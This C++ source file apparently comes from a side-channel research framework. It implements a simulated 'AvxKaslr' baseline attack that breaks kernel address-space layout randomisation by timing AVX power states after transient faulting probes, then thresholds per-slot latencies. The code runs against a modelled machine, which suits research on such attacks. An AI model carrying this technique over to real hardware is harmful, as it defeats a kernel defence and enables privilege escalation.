#include "baseline/avx_kaslr.h"

#include <algorithm>

using whisper::isa::ProgramBuilder;
using whisper::isa::Reg;

namespace whisper::baseline {

AvxKaslr::AvxKaslr(os::Machine& m, Options opt)
    : KaslrAttack(m, "avx", {}), rounds_(opt.rounds) {
  {
    // Transient stage: probe access opens the window; a dependent ALU
    // chain delays the AVX op so only long (unmapped) windows reach it.
    ProgramBuilder b;
    if (m.config().has_tsx) b.tsx_begin("after");
    b.load(Reg::RAX, Reg::RCX);  // the faulting probe access
    b.mov(Reg::R10, 1);
    for (int i = 0; i < opt.delay_chain; ++i) b.add(Reg::R10, 1);
    b.avx(Reg::R10);  // dependent on the chain: issues late
    if (m.config().has_tsx)
      b.tsx_end();
    else
      b.mfence();
    b.label("after").halt();
    core::GadgetProgram g{b.build(), -1};
    g.signal_handler = g.prog.label("after");
    transient_ = std::move(g);
  }
  {
    // Architectural timer: fenced rdtsc around one AVX op.
    ProgramBuilder b;
    b.rdtsc(Reg::R8).lfence();
    b.avx();
    b.lfence().rdtsc(Reg::R9).halt();
    timer_ = b.build();
  }
}

std::uint64_t AvxKaslr::probe_once(std::uint64_t vaddr) {
  // Warm the translation iff mapped (the double-probe trick)...
  m_.evict_tlbs();
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(Reg::RCX)] = vaddr;
  (void)core::run_tote(m_, transient_, regs);
  // ...let the AVX unit power back down (the warming run itself ran a long
  // cold-TLB window and may have touched it)...
  m_.advance_time(
      static_cast<std::uint64_t>(m_.config().avx_warm_cycles) + 1);
  // ...then the measurement window: short (TLB hit) for mapped targets —
  // the delayed AVX op gets squashed before issue; long for unmapped.
  (void)core::run_tote(m_, transient_, regs);

  // Architecturally time an AVX op: warm (small) means the transient AVX
  // executed, i.e. the window was long, i.e. the target was unmapped.
  const auto r = m_.run_user(timer_, {}, -1, 100'000);
  const auto& tsc = r.t0().tsc;
  if (tsc.size() < 2 || tsc[1] <= tsc[0]) return 0;
  return tsc[1] - tsc[0];
}

int AvxKaslr::scan(core::AttackResult& r) {
  r.slot_scores.assign(os::kKaslrSlots, 0);
  for (int s = 0; s < os::kKaslrSlots; ++s) {
    const std::uint64_t target = slot_target(s);
    std::uint64_t best = 0;  // keep the max: cold readings dominate
    for (int round = 0; round < rounds_; ++round) {
      best = std::max(best, probe_once(target));
      ++r.probes;
    }
    r.slot_scores[static_cast<std::size_t>(s)] = best;
  }

  // Mapped slots read COLD (high latency): first slot above the midpoint
  // between the population median and the maximum.
  std::vector<std::uint64_t> sorted = r.slot_scores;
  std::sort(sorted.begin(), sorted.end());
  const std::uint64_t median = sorted[sorted.size() / 2];
  const std::uint64_t top = sorted.back();
  const std::uint64_t threshold = median + (top - median) / 2;
  if (top > median + 8) {
    for (int s = 0; s < os::kKaslrSlots; ++s)
      if (r.slot_scores[static_cast<std::size_t>(s)] >= threshold) return s;
  }
  return 0;
}

}  // namespace whisper::baseline
